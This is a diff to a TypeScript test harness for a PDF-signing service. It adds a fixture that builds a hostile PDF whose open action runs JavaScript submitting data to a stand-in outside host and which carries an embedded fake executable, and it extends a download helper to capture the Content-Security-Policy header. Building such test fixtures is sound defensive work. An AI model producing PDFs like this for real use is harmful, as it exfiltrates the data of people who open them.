@@ -13,6 +13,7 @@ import {
   UserDto,
   Urgency,
 } from '@vanthu/shared/contracts';
+import { PDFDocument, PDFHexString, PDFName } from 'pdf-lib';
 import TestAgent from 'supertest/lib/agent';
 
 import { TestApp } from './harness';
@@ -22,6 +23,16 @@ const run = promisify(execFile);
 /** The sample PDFs every signing test reads: libs/pdf-signing's (its test/corpus/README.md says what each one is). */
 export const CORPUS = resolve(__dirname, '../../../libs/pdf-signing/test/corpus');
 export const corpusFile = (name: string): Buffer => readFileSync(join(CORPUS, name));
+
+/** A PDF that submits data to an outside address when opened and carries an embedded .exe. */
+export async function hostilePdf(): Promise<Buffer> {
+  const doc = await PDFDocument.create();
+  doc.addPage();
+  const script = doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFHexString.fromText('this.submitForm({cURL: "https://thu-thap.example/du-lieu", cSubmitAs: "PDF"});') });
+  doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(script));
+  await doc.attach(Buffer.from('MZ\x90\x00 a program'), 'cai-dat.exe', { mimeType: 'application/octet-stream' });
+  return Buffer.from(await doc.save());
+}
 
 export const DEMO_PIN = '123456';
 export const COMMUNE_CODES = ['quangtan', 'dakbukso', 'dakrtih', 'dakngo', 'quangtruc', 'quangtam'];
@@ -176,7 +187,7 @@ export class Route {
 }
 
 /** A binary answer (PDF, XLSX, XML) read whole as bytes, with its type and disposition; expects 200. */
-export async function download(agent: TestAgent, url: string): Promise<{ body: Buffer; type: string; disposition: string }> {
+export async function download(agent: TestAgent, url: string): Promise<{ body: Buffer; type: string; disposition: string; csp: string }> {
   const response = await agent
     .get(url)
     .buffer(true)
@@ -186,7 +197,12 @@ export async function download(agent: TestAgent, url: string): Promise<{ body: B
       res.on('end', () => callback(null, Buffer.concat(chunks)));
     })
     .expect(200);
-  return { body: response.body as Buffer, type: String(response.headers['content-type']), disposition: String(response.headers['content-disposition']) };
+  return {
+    body: response.body as Buffer,
+    type: String(response.headers['content-type']),
+    disposition: String(response.headers['content-disposition']),
+    csp: String(response.headers['content-security-policy']),
+  };
 }
 
 /** What poppler's pdfsig says of a PDF, with the development root trusted in a fresh NSS database. */
